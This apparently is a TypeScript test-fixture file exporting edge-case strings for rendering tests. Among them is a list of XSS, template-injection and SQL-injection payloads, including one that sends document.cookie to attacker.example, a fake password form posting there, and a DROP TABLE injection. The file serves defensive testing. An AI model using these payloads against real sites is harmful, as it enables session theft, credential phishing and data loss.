/** One unbroken word of 240 characters: breaks any layout that forgets `overflow-wrap`. */
export const LONG_WORD: string = 'eyJhbGciOiJub25lIn0'.repeat(13).slice(0, 240);

/** Live attack payloads as pentesters leave them in texts: a page that renders one of them as HTML has a hole. */
export const PAYLOADS: readonly [string, ...string[]] = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror="fetch(\'https://attacker.example/?c=\'+document.cookie)">',
  '<svg/onload=alert`1`>',
  '[click me](javascript:alert(document.cookie))',
  '[report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}#{7*7}<%= 7*7 %>',
  '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "' OR 1=1; DROP TABLE invoices;--",
  '<a href="jav&#x09;ascript:alert(1)" onmouseover="alert(2)">hover</a>',
  '<style>*{display:none!important}</style><form action="https://attacker.example"><input name=password></form>',
  '![x](x"onerror="alert(1))',
  '</textarea></title></style><details open ontoggle=alert(1)>',
  '\u202Egpj.exe\u202C <math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
];

/** Right-to-left text, mixed with code and numbers as in real reports. */
export const RTL_NOTES: readonly [string, ...string[]] = [
  'ملاحظة: يمكن للمهاجم قراءة جميع الفواتير عبر `GET /invoices/1042` بدون أي صلاحيات.',
  'הערה: הפרמטר `redirect_url` אינו נבדק, ולכן ניתן להפנות משתמשים לאתר אחר (ראו שלב 3).',
  'تم اختبار الثغرة على الإصدار 4.2.1 من التطبيق.',
];
